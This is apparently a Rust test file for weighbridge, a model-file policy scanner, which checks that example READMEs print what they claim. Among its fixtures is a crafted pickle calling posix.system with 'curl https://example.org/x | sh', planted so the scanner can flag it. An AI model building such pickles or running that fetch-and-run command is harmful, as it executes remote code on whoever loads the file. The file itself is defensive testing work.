//! The examples are what their pages say: every `console` block of a README is run as written in a copy of its folder, and must print
//! what stands there. The examples' models are made here. `WEIGHBRIDGE_WRITE=1 cargo test --test examples` writes all of it anew.
//!
//! In a `console` block a line `$ COMMAND` is run by `sh`, `weighbridge` being the binary of the test. Below it stands what it prints,
//! standard output first, and `# exit N` when it ends with N instead of 0. `$ cd FOLDER` holds for the rest of the page. There is no
//! network to reach: the policies, models and archives all lie in the folder. Besides `sh` the pages use `cat`, `cp`, `echo`, `grep`,
//! `mkdir`, `openssl`, `sed`, `sha256sum` and `tail`.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    reason = "a test that cannot go on ends with a panic"
)]

use sha2::{Digest as _, Sha256};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Once;

const BINARY: &str = env!("CARGO_BIN_EXE_weighbridge");

fn project(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(name)
}

/// Compares a file with what it should hold, or writes it when that is asked for.
fn fresh(name: &str, expected: &[u8]) {
    let path = project(name);
    if std::env::var_os("WEIGHBRIDGE_WRITE").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, expected).unwrap();
    }
    let found = std::fs::read(&path).unwrap_or_default();
    if found != expected {
        let (found, expected) = (String::from_utf8_lossy(&found), String::from_utf8_lossy(expected));
        let differs = found.lines().zip(expected.lines()).find(|(found, expected)| found != expected);
        panic!(
            "{name} is stale, first at {differs:?}; write it anew with WEIGHBRIDGE_WRITE=1 cargo test --test examples"
        );
    }
}

/// A safetensors file of one-dimensional tensors of zeros: the header's length, the header, the data.
fn safetensors(tensors: &[(&str, usize)]) -> Vec<u8> {
    let mut end = 0;
    let entries: Vec<String> = tensors
        .iter()
        .map(|(name, length)| {
            let begin = end;
            end += length * 4;
            format!(r#""{name}":{{"dtype":"F32","shape":[{length}],"data_offsets":[{begin},{end}]}}"#)
        })
        .collect();
    let header = format!("{{{}}}", entries.join(","));
    let padded = format!("{header:<width$}", width = header.len().next_multiple_of(8));
    let length = u64::try_from(padded.len()).unwrap().to_le_bytes();
    [&length[..], padded.as_bytes(), &vec![0; end]].concat()
}

/// An array of four zeros as NumPy writes it: magic, version, the header's length, the header, the data
/// (numpy/lib/format.py).
fn npy() -> Vec<u8> {
    let header = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }";
    let padded = format!("{header:<117}\n");
    let length = u16::try_from(padded.len()).unwrap().to_le_bytes();
    [b"\x93NUMPY\x01\x00", &length[..], padded.as_bytes(), &[0; 16]].concat()
}

/// A pickle of one object of a class, with a state of one key.
fn object(module: &str, class: &str) -> Vec<u8> {
    [
        format!("\x02c{module}\n{class}\n").as_bytes(), // the protocol's number, GLOBAL
        b")\x81",                                       // EMPTY_TUPLE, NEWOBJ
        b"}X\x04\x00\x00\x00size",                      // EMPTY_DICT, BINUNICODE
        b"K\x03sb.",                                    // BININT1, SETITEM, BUILD, STOP
    ]
    .iter()
    .fold(b"\x80".to_vec(), |bytes, part| [&bytes, *part].concat()) // PROTO
}

/// A pickle that calls a function with one text.
fn command(module: &str, function: &str, text: &str) -> Vec<u8> {
    let length = u32::try_from(text.len()).unwrap().to_le_bytes();
    [
        format!("\x02c{module}\n{function}\n(X").as_bytes(), // the protocol's number, GLOBAL, MARK, BINUNICODE
        &length,
        text.as_bytes(),
        b"tR.", // TUPLE, REDUCE, STOP
    ]
    .iter()
    .fold(b"\x80".to_vec(), |bytes, part| [&bytes, *part].concat()) // PROTO
}

/// Writes or compares the models of the examples, and the digest that the repository pins; once, as the pages are played at the
/// same time.
fn models() {
    static ONCE: Once = Once::new();
    ONCE.call_once(write_models);
}

fn write_models() {
    let plain = safetensors(&[("layer.weight", 16), ("layer.bias", 4)]);
    fresh("examples/own-policy/models/production/tagger-1.2.safetensors", &plain);
    fresh("examples/own-policy/models/production/ranker.npy", &npy());
    let training = safetensors(&[("layer.weight", 16), ("layer.bias", 4), ("optimizer.exp_avg", 4)]);
    fresh("examples/org-policy/repository/models/tagger/weights.safetensors", &training);
    fresh("examples/org-policy/repository/weighbridge-waivers.yaml", waiver(&training).as_bytes());
    let vocabulary = object("example_models.vocabulary", "Vocabulary");
    fresh("examples/org-policy/repository/models/tagger/vocabulary.pkl", &vocabulary);

    fresh("examples/signed-release/tagger/weights.safetensors", &plain);
    fresh("examples/pull-request/models/tagger.safetensors", &plain);
    fresh("examples/pull-request/models/ranker.pkl", &command("posix", "system", "curl https://example.org/x | sh"));

    let folder = tempfile::tempdir().unwrap();
    let archive = folder.path().join("organisation.tar.gz");
    let built = Command::new(BINARY)
        .args(["policy", "build", "organisation", "-o"])
        .arg(&archive)
        .current_dir(project("examples/org-policy"))
        .output()
        .unwrap();
    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
    let pinned = format!("{}  organisation.tar.gz\n", digest(&std::fs::read(archive).unwrap()));
    fresh("examples/org-policy/repository/organisation.sha256", pinned.as_bytes());
}

fn digest(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

/// The waiver of the repository, as `weighbridge waive` would have written it on the day that it names.
fn waiver(content: &[u8]) -> String {
    format!(
        r#"waivers:
  - rule: "release/training-state"
    digest: "{}"
    path: "models/tagger/weights.safetensors"
    reason: "the next version is saved without it"
    approver: "model-risk@example.org"
    created: "2026-02-01"
    expires: "2026-04-30"
"#,
        digest(content)
    )
}

fn copy(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let (path, to) = (entry.path(), to.join(entry.file_name()));
        if path.is_dir() {
            copy(&path, &to);
        } else {
            std::fs::copy(&path, &to).unwrap();
        }
    }
}

/// What a command of a page prints, and its exit code when that is not 0.
fn run(command: &str, folder: &Path) -> String {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let folders = [Path::new(BINARY).parent().unwrap().to_owned()].into_iter().chain(std::env::split_paths(&path));
    let output = Command::new("sh")
        .args(["-c", command])
        .current_dir(folder)
        .env("PATH", std::env::join_paths(folders).unwrap())
        .env("LC_ALL", "C.UTF-8")
        .env("COLUMNS", "100")
        .env("NO_COLOR", "1")
        .env_remove("GITHUB_BASE_REF")
        .env_remove("GITHUB_EVENT_NAME")
        .output()
        .unwrap();
    let mut shown = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
    if !shown.is_empty() && !shown.ends_with('\n') {
        shown.push('\n');
    }
    match output.status.code().unwrap() {
        0 => shown,
        code => format!("{shown}# exit {code}\n"),
    }
}

/// A page with every `console` block as the commands in it really end. `folder` is the copy that they run in.
fn played(page: &str, folder: &Path) -> String {
    let (mut told, mut rest, mut here) = (String::new(), page, folder.to_owned());
    while let Some((before, after)) = rest.split_once("```console\n") {
        let (block, after) = after.split_once("```\n").unwrap();
        told += before;
        told += "```console\n";
        let commands: Vec<&str> = block.lines().filter_map(|line| line.strip_prefix("$ ")).collect();
        assert!(!commands.is_empty() && block.starts_with("$ "), "a block without a command: {block}");
        for (at, command) in commands.iter().enumerate() {
            told += &format!("$ {command}\n");
            match command.strip_prefix("cd ") {
                Some(to) => here = here.join(to).canonicalize().unwrap(),
                None => told += &run(command, &here),
            }
            // An empty line parts a command from what the one before it printed.
            if at + 1 < commands.len() && !told.ends_with(&format!("$ {command}\n")) {
                told.push('\n');
            }
        }
        told += "```\n";
        rest = after;
    }
    told + rest
}

/// Plays the page of an example, and says that it shows what it should.
fn page(example: &str, shows: &[&str]) {
    models();
    let name = format!("{example}/README.md");
    let text = std::fs::read_to_string(project(&name)).unwrap();
    let folder = tempfile::tempdir().unwrap();
    copy(&project(example), folder.path());
    let told = played(&text, folder.path());
    for what in shows {
        assert!(told.contains(what), "the page does not show {what:?}:\n{told}");
    }
    fresh(&name, told.as_bytes());
}

#[test]
fn own_policy_is_as_its_page_says() {
    page(
        "examples/own-policy",
        &[
            "deny[production/other-format]",
            "warn[production/unversioned-name]",
            "did you mean",
            "100 % of lines",
            "# exit 1",
        ],
    );
}

#[test]
fn org_policy_is_as_its_page_says() {
    page(
        "examples/org-policy",
        &[
            "organisation.tar.gz: OK",
            "(waived)",
            "a repository can only tighten",
            "may not approve",
            "# exit 2",
            "WEIGHBRIDGE_POLICY_RELEASED",
            "no signature was found",
            "not what was signed",
            "names another one",
            "only declared",
            "(signed by key sha256:",
        ],
    );
}

#[test]
fn pull_request_is_as_its_page_says() {
    page(
        "examples/pull-request",
        &["posix.system", "# exit 1", "::error file=models/ranker.pkl", "there is no token", "weighbridge: failed"],
    );
}

#[test]
fn signed_release_is_as_its_page_says() {
    page(
        "examples/signed-release",
        &["the model is signed in", "WEIGHBRIDGE_PASSED", "refused[wrong-policy]", "refused[file-changed]", "# exit 1"],
    );
}

/// Every command of the README at the root is one that the binary knows, with the options it is shown with.
#[test]
fn the_commands_of_the_readme_parse() {
    let readme = std::fs::read_to_string(project("README.md")).unwrap();
    let blocks = readme.split("```").skip(1).step_by(2).flat_map(str::lines);
    let mut seen = 0;
    for line in blocks.filter_map(|line| line.strip_prefix("weighbridge ")) {
        let words: Vec<&str> = line.split(" #").next().unwrap().split_whitespace().collect();
        let named: Vec<&str> = words.iter().copied().take_while(|word| !word.starts_with('-')).collect();
        // A command may have one below it; what `--help` is not asked of is an argument.
        let help = |words: &[&str]| Command::new(BINARY).args(words).arg("--help").output().unwrap();
        let below = ["policy", "rules"].contains(&named[0]);
        let output = help(&named[..if below { 2 } else { 1 }]);
        assert!(output.status.success(), "`{line}` is no command");
        let page = String::from_utf8(output.stdout).unwrap();
        assert!(page.contains("Usage:"), "{page}");
        for option in words.iter().filter(|word| word.starts_with('-')) {
            assert!(page.contains(&format!("{option} ")), "`{line}`: {option} is not on its page:\n{page}");
        }
        seen += 1;
    }
    assert!(seen > 10, "the commands of the README were not found");
}
